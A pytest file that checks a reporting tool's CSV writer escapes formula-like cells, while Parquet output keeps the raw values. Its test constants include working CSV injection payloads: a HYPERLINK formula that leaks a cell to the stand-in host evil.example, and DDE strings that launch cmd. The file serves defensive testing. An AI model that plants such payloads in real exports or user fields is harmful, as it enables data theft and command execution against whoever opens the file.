"""CSV formula injection: every CSV the tool writes shows a formula-like cell as text.

Names and metadata are set by whoever signs up, and the CSVs are emailed to people who
open them in a spreadsheet. A text cell starting with `=`, `+`, `-`, `@`, a tab or a
carriage return gets a leading `'` (OWASP); numbers stay numbers; Parquet keeps the raw
value.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa

from reports.email import strip_personal_data
from reports.tables import FORMULA_TRIGGERS, csv_safe_cell, csv_safe_table, write_csv
from reports.writer import write_run_reports
from sandbox.runner import SandboxServer
from tests.maintenance.world import USERS, MaintenanceWorld, build

RUN_ID = "20261121T210501Z-3f9a1c"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+1"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
# A bare CR inside a cell: unquoted, a spreadsheet starts a new row there, formula first.
INNER_CR = "Ann\r=HYPERLINK(1)"
NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?")


def csv_cells(path: Path) -> Iterator[tuple[str, str]]:
    """(column, cell) of every body cell, parsed as a spreadsheet would (quotes honoured)."""
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    for row in body:
        assert len(row) == len(header), f"{path.name}: a row broke apart: {row!r}"
        yield from zip(header, row, strict=True)


def assert_no_formula(path: Path) -> None:
    for column, cell in csv_cells(path):
        if NUMBER.fullmatch(cell):
            continue  # a number, negative or not, is not a formula
        assert not cell.startswith(FORMULA_TRIGGERS), f"{path.name} {column}: {cell!r}"


# --- the rule and the writer ------------------------------------------------------------


@pytest.mark.parametrize("value", [HYPERLINK, AT_SUM, PLUS, MINUS, TAB, CR])
def test_a_formula_like_text_gets_a_leading_quote(value: str) -> None:
    assert csv_safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["cus_A", "", "a=b", "'=already text", 3, -3, -1.5, None])
def test_anything_else_is_left_as_it_is(value: object) -> None:
    assert csv_safe_cell(value) == value


def test_numeric_columns_stay_numbers_and_text_columns_are_neutralised() -> None:
    table = pd.DataFrame(
        {
            "name": pd.array([HYPERLINK, "-5", None, INNER_CR], dtype="string"),
            "days_left": pd.array([-3, 4, None, -1], dtype="Int64"),
            "ratio": [-1.5, 0.5, 2.0, -0.25],
        }
    )
    out = io.StringIO()
    write_csv(table, out)
    out.seek(0)
    rows = list(csv.DictReader(out))
    assert [row["name"] for row in rows] == ["'" + HYPERLINK, "'-5", "", INNER_CR]
    assert [row["days_left"] for row in rows] == ["-3", "4", "", "-1"]
    assert [row["ratio"] for row in rows] == ["-1.5", "0.5", "2.0", "-0.25"]
    # Rows still end with LF; the CR inside a cell is quoted, so it cannot start a row.
    text = out.getvalue()
    assert text.count("\n") == 5
    assert '"Ann\r=HYPERLINK(1)"' in text


def test_the_safe_table_keeps_shape_index_types_and_the_input() -> None:
    table = pd.DataFrame(
        [[PLUS, 7, "-3", MINUS], ["x", -2, "-4", None], [None, 0, AT_SUM, 1.5]],
        columns=["name", "n", "days", "name"],  # a repeated column name stays one per position
        index=[10, 11, 5],
    )
    table["n"] = table["n"].astype("Int64")
    before = table.copy()
    safe = csv_safe_table(table, number_columns={"days"})
    assert table.equals(before)  # the input is left as it was
    assert list(safe.columns) == ["name", "n", "days", "name"]
    assert list(safe.index) == [10, 11, 5]
    assert safe.dtypes.iloc[1] == "Int64"
    assert safe.iloc[:2, 0].tolist() == ["'" + PLUS, "x"]
    assert safe.iloc[:, 0].isna().tolist() == [False, False, True]
    assert safe.iloc[:, 1].tolist() == [7, -2, 0]
    assert safe.iloc[:, 2].tolist() == ["-3", "-4", AT_SUM]  # numbers held as text: as is
    assert safe.iloc[0, 3] == "'" + MINUS
    assert safe.iloc[:, 3].isna().tolist() == [False, True, False]
    assert safe.iloc[2, 3] == 1.5  # a number in a text column is no formula


def test_every_csv_of_a_report_folder_is_neutralised_and_parquet_is_raw(tmp_path: Path) -> None:
    findings = pd.DataFrame(
        [
            {
                "kind": "stale_metadata",
                "severity": "info",
                "customer_id": "cus_A",
                "user_id": "1",
                "email": "-x@example.com",
                "field": "name",
                "stripe_value": HYPERLINK,
                "local_value": AT_SUM,
                "related_ids": "",
                "detail": TAB,
                "suggested_action": CR,
            }
        ]
    )
    extra = {
        "plan": pd.DataFrame({"action": ["update_customer"], "reason": [PLUS]}),
        "audit": pd.DataFrame({"outcome": ["failed"], "error": [MINUS]}),
        "reminders": pd.DataFrame({"name": [INNER_CR], "days_left": [-7]}),
    }
    run_dir = write_run_reports(
        tmp_path, "reconcile", RUN_ID, findings, {"mode": "test"}, extra_tables=extra
    )
    names = sorted(path.name for path in run_dir.glob("*.csv"))
    assert names == [
        "audit.csv",
        "findings-stale_metadata.csv",
        "findings.csv",
        "plan.csv",
        "reminders.csv",
    ]
    for name in names:
        assert_no_formula(run_dir / name)
    cells = dict(csv_cells(run_dir / "findings.csv"))
    assert cells["stripe_value"] == "'" + HYPERLINK
    assert dict(csv_cells(run_dir / "reminders.csv"))["days_left"] == "-7"
    parquet = pq.read_table(run_dir / "findings.parquet").to_pylist()[0]
    assert parquet["stripe_value"] == HYPERLINK
    assert parquet["local_value"] == AT_SUM
    assert pq.read_table(run_dir / "plan.parquet").to_pylist()[0]["reason"] == PLUS


def test_an_attachment_stripped_of_personal_data_stays_neutralised(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {
            "name": ["Ann"],
            "detail": [HYPERLINK],
            "days_left": pd.array([-2], dtype="Int64"),
        }
    )
    out = io.StringIO()
    write_csv(table, out)
    stripped = tmp_path / "stripped.csv"
    stripped.write_bytes(strip_personal_data(out.getvalue().encode()))
    assert_no_formula(stripped)
    cells = dict(csv_cells(stripped))
    assert cells == {"detail": "'" + HYPERLINK, "days_left": "-2"}


# --- runs against the sandbox -------------------------------------------------------------


def _poison(world: MaintenanceWorld) -> None:
    """Formula-like values where sign-ups and the user DB put them."""
    store = world.sandbox.store.mode(world.mode)
    changes: dict[str, dict[str, Any]] = {
        "cus_sync1": {"name": HYPERLINK},
        "cus_sync2": {"metadata": {"user_id": "2", "plan": AT_SUM}},
        "cus_pm10": {"metadata": {"user_id": "10", "plan": MINUS}},
        "cus_un5": {"name": PLUS},
        # An expired default card: a reminder with a negative days_left, and a name.
        "cus_pm12": {"name": INNER_CR, "default_payment_method": "pm_12_expired"},
        "cus_dupC": {"name": PLUS},
    }
    for customer_id, fields in changes.items():
        store.update_customer(store.customers[customer_id], fields)
    engine = sa.create_engine(world.users_url)
    try:
        with engine.begin() as conn:
            conn.execute(USERS.update().where(USERS.c.id == 11).values(name=CR))
    finally:
        engine.dispose()


@pytest.fixture
def poisoned(sandbox_server: SandboxServer, tmp_path: Path) -> MaintenanceWorld:
    world = build(sandbox_server, tmp_path, f"sqlite:///{tmp_path / 'users.db'}")
    _poison(world)
    return world


def test_every_csv_a_run_writes_shows_formulas_as_text(poisoned: MaintenanceWorld) -> None:
    reconcile = poisoned.run("reconcile")
    plan_only = poisoned.run("sync-metadata")
    applied = poisoned.run("sync-metadata", apply=True)
    cards = poisoned.run("card-expiry", days=36500)
    run_dirs = [reconcile.run_dir, plan_only.run_dir, applied.run_dir, cards.run_dir]
    written = sorted(path.name for run_dir in run_dirs for path in run_dir.glob("*.csv"))
    for expected in ("findings.csv", "plan.csv", "audit.csv", "reminders.csv"):
        assert expected in written
    assert any(name.startswith("findings-") for name in written)
    for run_dir in run_dirs:
        for path in run_dir.glob("*.csv"):
            assert_no_formula(path)

    # The poisoned values did reach the files, as text.
    findings = pd.read_csv(reconcile.run_dir / "findings.csv", dtype=str, keep_default_na=False)
    values = set(findings["stripe_value"]) | set(findings["local_value"])
    assert {"'" + HYPERLINK, "'" + AT_SUM, "'" + MINUS, "'" + CR} <= values
    reminders = pd.read_csv(cards.run_dir / "reminders.csv", dtype=str, keep_default_na=False)
    by_customer = reminders.set_index("customer_id")
    assert by_customer.loc["cus_pm12", "name"] == INNER_CR  # quoted, so one cell
    assert by_customer.loc["cus_dupC", "name"] == "'" + PLUS
    assert int(str(by_customer.loc["cus_pm12", "days_left"])) < 0  # a number, not "'-..."

    # Parquet keeps what Stripe holds.
    raw = pd.read_parquet(reconcile.run_dir / "findings.parquet")
    assert HYPERLINK in set(raw["stripe_value"])
    assert PLUS in set(pd.read_parquet(cards.run_dir / "reminders.parquet")["name"])
